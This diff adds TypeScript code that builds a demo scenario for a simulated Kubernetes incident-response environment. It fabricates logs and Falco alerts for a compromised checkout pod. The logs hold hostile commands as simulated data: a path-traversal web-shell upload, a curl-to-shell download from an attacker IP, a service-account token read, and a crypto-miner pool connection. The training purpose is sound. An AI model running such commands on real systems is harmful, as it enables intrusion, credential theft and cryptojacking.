@@ -1,0 +1,230 @@
+import type { World } from "../world";
+import type { SimCluster } from "../kube/cluster";
+import type { KObject } from "../kube/types";
+import { addGkeCluster, addNetwork, addNode, seedApiServerEndpoints, seedClusterBasics } from "./infra";
+import { createBarePod, createDaemonSet, createDeployment, createNetworkPolicy, createPdb, serviceObject, type WorkloadSpec } from "./builders";
+import { applyServiceDefaults } from "../kube/controllers/services";
+import { reconcileNow } from "../kube/controllers";
+import { recordEvent } from "../kube/events";
+import { rfc3339Nano, setContainerLog, type LogEntry } from "./logs";
+
+// The demo project acme-prod: `payments` (zonal, Dataplane V2, so NetworkPolicy is enforced)
+// and `storefront` (regional, legacy datapath without the Calico add-on, so it is not).
+//
+// One checkout pod in payments is compromised (annotation airlock.sim/compromised=true). Its
+// node also runs a frontend pod, the cache pod (emptyDir), the bare pod shop/debug-shell and a
+// fluentbit-gke DaemonSet pod, while the other checkout replica runs elsewhere: draining that
+// node shows every case `kubectl drain` has, and the checkout budget stays satisfiable.
+//
+// The world is built as it stood three days ago and the clock is then brought forward, so
+// ages, events and the intrusion story have believable times.
+
+export const COMPROMISED_ANNOTATION = "airlock.sim/compromised";
+const BUILT_AGO_S = 3 * 86_400 + 4 * 3_600 + 17 * 60;
+const STORY_AGO_S = 47 * 60;
+
+const REGISTRY = "us-docker.pkg.dev/acme-prod/shop";
+
+const fluentbit: WorkloadSpec = {
+  labels: { "k8s-app": "fluentbit-gke", "kubernetes.io/cluster-service": "true" },
+  selector: { "k8s-app": "fluentbit-gke" },
+  containers: [
+    {
+      name: "fluentbit",
+      image: "gke.gcr.io/fluent-bit:v1.8.12-gke.25",
+      resources: { requests: { cpu: "50m", memory: "100Mi" }, limits: { memory: "250Mi" } },
+      volumeMounts: [{ name: "varlog", mountPath: "/var/log" }],
+    },
+  ],
+  volumes: [{ name: "varlog", hostPath: { path: "/var/log", type: "" } }],
+  tolerations: [{ operator: "Exists", effect: "NoExecute" }, { operator: "Exists", effect: "NoSchedule" }],
+  serviceAccountName: "fluentbit-gke",
+  priorityClassName: "system-node-critical",
+};
+
+function web(app: string, image: string, extra: Partial<WorkloadSpec> = {}): WorkloadSpec {
+  return {
+    labels: { app, ...(extra.labels ?? {}) },
+    selector: extra.selector ?? { app },
+    replicas: extra.replicas,
+    containers: [
+      {
+        name: app,
+        image,
+        ports: [{ name: "http", containerPort: 8080, protocol: "TCP" }],
+        resources: { requests: { cpu: "100m", memory: "128Mi" }, limits: { memory: "256Mi" } },
+        livenessProbe: { httpGet: { path: "/healthz", port: 8080, scheme: "HTTP" }, periodSeconds: 10, timeoutSeconds: 1, successThreshold: 1, failureThreshold: 3 },
+      },
+    ],
+  };
+}
+
+function addService(world: World, cluster: SimCluster, svc: KObject): KObject {
+  return cluster.store.create("services", applyServiceDefaults(world, cluster, svc));
+}
+
+function podsOf(cluster: SimCluster, ns: string, app: string): KObject[] {
+  return cluster.store.list("pods", { namespace: ns }).filter((p) => p.metadata.labels?.app === app);
+}
+
+function buildShop(world: World, cluster: SimCluster, sizes: { frontend: number; checkout: number; cart: number; cache: boolean }): void {
+  const { store } = cluster;
+  createDaemonSet(cluster, "kube-system", "fluentbit-gke", fluentbit);
+  reconcileNow(world, cluster);
+  createDeployment(cluster, "shop", "frontend", web("frontend", `${REGISTRY}/frontend:2.14.1`, { replicas: sizes.frontend, labels: { tier: "web" } }));
+  reconcileNow(world, cluster);
+  createDeployment(cluster, "shop", "checkout", web("checkout", `${REGISTRY}/checkout:1.9.3`, { replicas: sizes.checkout, labels: { tier: "backend" } }));
+  reconcileNow(world, cluster);
+  createDeployment(cluster, "shop", "cart", web("cart", `${REGISTRY}/cart:3.2.0`, { replicas: sizes.cart }));
+  reconcileNow(world, cluster);
+  if (sizes.cache) {
+    createDeployment(cluster, "shop", "cache", {
+      labels: { app: "cache" },
+      containers: [
+        {
+          name: "redis",
+          image: "redis:7.2.5-alpine",
+          ports: [{ name: "redis", containerPort: 6379, protocol: "TCP" }],
+          volumeMounts: [{ name: "data", mountPath: "/data" }],
+          resources: { requests: { cpu: "50m", memory: "64Mi" } },
+        },
+      ],
+      volumes: [{ name: "data", emptyDir: {} }],
+    });
+    reconcileNow(world, cluster);
+  }
+  createPdb(cluster, "shop", "checkout-pdb", { app: "checkout" }, { minAvailable: 1 });
+  createPdb(cluster, "shop", "frontend-pdb", { app: "frontend" }, { maxUnavailable: 1 });
+  addService(world, cluster, serviceObject("shop", "frontend", { type: "LoadBalancer", selector: { app: "frontend" }, ports: [{ name: "http", port: 80, targetPort: "http" }] }));
+  addService(world, cluster, serviceObject("shop", "checkout", { type: "ClusterIP", selector: { app: "checkout" }, ports: [{ name: "http", port: 8080, targetPort: "http" }] }));
+  addService(world, cluster, serviceObject("shop", "cart", { type: "NodePort", selector: { app: "cart" }, ports: [{ name: "http", port: 80, targetPort: 8080 }] }));
+  if (sizes.cache) addService(world, cluster, serviceObject("shop", "cache", { type: "ClusterIP", selector: { app: "cache" }, ports: [{ name: "redis", port: 6379, targetPort: "redis" }] }));
+  addService(world, cluster, serviceObject("shop", "payments-gateway", { type: "ExternalName", externalName: "api.stripe.example.com" }));
+  // Selects checkout by tier, a label in neither the ReplicaSet's nor any Service's selector:
+  // stripping controller labels does not take the pod out of this allow (ERRATA 3).
+  createNetworkPolicy(cluster, "shop", "allow-checkout-from-frontend", {
+    podSelector: { matchLabels: { tier: "backend" } },
+    policyTypes: ["Ingress"],
+    ingress: [{ from: [{ podSelector: { matchLabels: { app: "frontend" } } }], ports: [{ protocol: "TCP", port: 8080 }] }],
+  });
+  for (const sa of ["default"]) if (!store.get("serviceaccounts", "shop", sa)) store.create("serviceaccounts", { apiVersion: "v1", kind: "ServiceAccount", metadata: { name: sa, namespace: "shop" } });
+  reconcileNow(world, cluster);
+}
+
+function buildPayments(world: World): { cluster: SimCluster; compromised: KObject } {
+  const cluster = world.addCluster("payments", "us-central1-a");
+  addGkeCluster(world, cluster, { datapathProvider: "ADVANCED_DATAPATH", calicoEnabled: false, autopilot: false, autoRepair: true }, ["us-central1-a"]);
+  seedClusterBasics(cluster, ["shop"]);
+  seedApiServerEndpoints(world, cluster);
+  for (let i = 0; i < 3; i++) addNode(world, cluster, { zone: "us-central1-a", index: i });
+  buildShop(world, cluster, { frontend: 3, checkout: 2, cart: 1, cache: true });
+
+  // The compromised checkout pod is the one sharing a node with the cache (emptyDir) pod.
+  const cache = podsOf(cluster, "shop", "cache")[0];
+  const node = cache.spec.nodeName as string;
+  const checkout = podsOf(cluster, "shop", "checkout");
+  const victim = checkout.find((p) => p.spec.nodeName === node);
+  const other = checkout.find((p) => p.spec.nodeName !== node);
+  const frontendHere = podsOf(cluster, "shop", "frontend").some((p) => p.spec.nodeName === node);
+  if (!victim || !other || !frontendHere) throw new Error(`demo layout broken: node ${node} must host checkout, cache and frontend pods with the second checkout elsewhere`);
+
+  createBarePod(cluster, "shop", "debug-shell", {
+    labels: { run: "debug-shell" },
+    nodeName: node,
+    containers: [{ name: "debug-shell", image: "busybox:1.36", command: ["sleep", "86400"] }],
+  });
+  reconcileNow(world, cluster);
+
+  const marked = structuredClone(cluster.store.get("pods", "shop", victim.metadata.name)!);
+  marked.metadata.annotations = { ...(marked.metadata.annotations ?? {}), [COMPROMISED_ANNOTATION]: "true" };
+  delete marked.metadata.resourceVersion;
+  return { cluster, compromised: cluster.store.update("pods", marked) };
+}
+
+function buildStorefront(world: World): SimCluster {
+  const cluster = world.addCluster("storefront", "us-central1");
+  const zones = ["us-central1-a", "us-central1-b", "us-central1-c"];
+  addGkeCluster(world, cluster, { datapathProvider: "LEGACY_DATAPATH", calicoEnabled: false, autopilot: false, autoRepair: true }, zones);
+  seedClusterBasics(cluster, ["shop"]);
+  seedApiServerEndpoints(world, cluster);
+  zones.forEach((zone, i) => addNode(world, cluster, { zone, index: i }));
+  buildShop(world, cluster, { frontend: 2, checkout: 2, cart: 1, cache: false });
+  return cluster;
+}
+
+/** Events and logs of the intrusion, from the first web-shell request to the miner. */
+function tellStory(world: World, cluster: SimCluster, pod: KObject): number {
+  const ns = pod.metadata.namespace!;
+  const name = pod.metadata.name;
+  const node = pod.spec.nodeName as string;
+  const ip = pod.status.podIP as string;
+  const c = "checkout";
+  const ref = { kind: "Pod", namespace: ns, name, uid: pod.metadata.uid, apiVersion: "v1", fieldPath: `spec.containers{${c}}` };
+  const falco = { component: "falco", host: node };
+  const t0 = world.clock.now();
+  const at = (s: number) => rfc3339Nano(t0 + s * 1000, s);
+  const story: LogEntry[] = [
+    [0, `{"level":"info","msg":"request","method":"POST","path":"/api/v1/orders","status":201,"ms":41}`],
+    [12, `{"level":"warn","msg":"request","method":"POST","path":"/api/v1/checkout/attachments","status":200,"ms":9,"remote":"203.0.113.45","ua":"python-requests/2.31.0","filename":"../../app/static/health.jsp"}`],
+    [31, `{"level":"warn","msg":"request","method":"GET","path":"/static/health.jsp","query":"c=id","status":200,"ms":3,"remote":"203.0.113.45"}`],
+    [32, "uid=10001(app) gid=10001(app) groups=10001(app)"],
+    [58, `{"level":"warn","msg":"request","method":"GET","path":"/static/health.jsp","query":"c=curl%20-s%20http://203.0.113.45/x.sh%20|%20sh","status":200,"ms":2113,"remote":"203.0.113.45"}`],
+    [59, "+ curl -s http://203.0.113.45/x.sh"],
+    [60, "+ sh"],
+    [61, "[x.sh] arch=x86_64 dropping /tmp/.X11-unix/kworkerd"],
+    [63, "[x.sh] cat /var/run/secrets/kubernetes.io/serviceaccount/token > /tmp/.t"],
+    [64, `[x.sh] GET https://10.8.0.1:443/api/v1/namespaces/shop/secrets -> 403 Forbidden: secrets is forbidden: User "system:serviceaccount:shop:default" cannot list resource "secrets" in API group "" in the namespace "shop"`],
+    [66, "[x.sh] GET https://10.8.0.1:443/apis/authorization.k8s.io/v1/selfsubjectrulesreviews -> 201"],
+    [70, "[kworkerd] * ABOUT        XMRig/6.21.0 gcc/12.2.0"],
+    [71, "[kworkerd] * POOL #1      198.51.100.23:3333 algo rx/0"],
+    [74, "[kworkerd] [2025-02-06 14:02:11.482]  net      use pool 198.51.100.23:3333  198.51.100.23"],
+    [75, "[kworkerd] [2025-02-06 14:02:11.902]  cpu      use profile  rx  (4 threads) scratchpad 2048 KB"],
+    [140, `{"level":"error","msg":"request","method":"POST","path":"/api/v1/orders","status":504,"ms":10003,"error":"context deadline exceeded"}`],
+    [141, `{"level":"warn","msg":"slow health check","ms":1187}`],
+  ].map(([s, line]) => ({ time: at(s as number), line: line as string }));
+  const started = (pod.status.containerStatuses?.[0]?.state?.running?.startedAt as string) ?? pod.status.startTime;
+  const startMs = Date.parse(started);
+  const before: LogEntry[] = [
+    { time: rfc3339Nano(startMs + 150, 1), line: `{"level":"info","msg":"starting","version":"1.9.3","port":8080}` },
+    { time: rfc3339Nano(startMs + 190, 2), line: `{"level":"info","msg":"connected to database","host":"10.20.0.5:5432","pool":10}` },
+    { time: rfc3339Nano(startMs + 230, 3), line: `{"level":"info","msg":"listening","addr":":8080"}` },
+    { time: rfc3339Nano(startMs + 3_600_000, 4), line: `{"level":"info","msg":"request","method":"POST","path":"/api/v1/orders","status":201,"ms":37}` },
+  ];
+  setContainerLog(cluster, ns, name, c, [...before, ...story]);
+
+  let stepped = 0;
+  const step = (s: number) => {
+    stepped += s;
+    world.clock.advance(s);
+  };
+  step(31);
+  recordEvent(world, cluster, ref, "Warning", "SuspiciousExec", `Notice A shell was spawned in a container with an attached terminal or by a web server (user=app container=${c} shell=sh parent=java cmdline=sh -c id pod=${name} ns=${ns} image=${REGISTRY}/checkout:1.9.3)`, falco);
+  step(28);
+  recordEvent(world, cluster, ref, "Warning", "SuspiciousExec", `Critical Download piped to shell (user=app container=${c} cmdline=sh -c curl -s http://203.0.113.45/x.sh | sh pod=${name} ns=${ns})`, falco);
+  step(4);
+  recordEvent(world, cluster, ref, "Warning", "SensitiveFileRead", `Warning Service account token read by unexpected process (file=/var/run/secrets/kubernetes.io/serviceaccount/token proc=cat parent=sh pod=${name} ns=${ns})`, falco);
+  step(11);
+  recordEvent(world, cluster, ref, "Warning", "OutboundConnection", `Critical Outbound connection to known cryptocurrency mining pool (connection=${ip}:43512->198.51.100.23:3333 proc=kworkerd pod=${name} ns=${ns})`, falco);
+  step(67);
+  for (let i = 0; i < 3; i++) {
+    recordEvent(world, cluster, ref, "Warning", "Unhealthy", `Liveness probe failed: Get "http://${ip}:8080/healthz": context deadline exceeded (Client.Timeout exceeded while awaiting headers)`, { component: "kubelet", host: node });
+    step(10);
+  }
+  return stepped;
+}
+
+export function buildDemoScenario(world: World): void {
+  world.clock.advance(-BUILT_AGO_S);
+  addNetwork(world);
+  const { cluster: payments, compromised } = buildPayments(world);
+  buildStorefront(world);
+  world.clock.advance(BUILT_AGO_S - STORY_AGO_S);
+  const told = tellStory(world, payments, compromised);
+  world.clock.advance(STORY_AGO_S - told);
+}
+
+/** The compromised pod of a demo cluster (found by its scenario annotation). */
+export function findCompromisedPod(cluster: SimCluster): KObject | undefined {
+  for (const pod of cluster.store.scan("pods")) if (pod.metadata.annotations?.[COMPROMISED_ANNOTATION] === "true") return pod;
+  return undefined;
+}
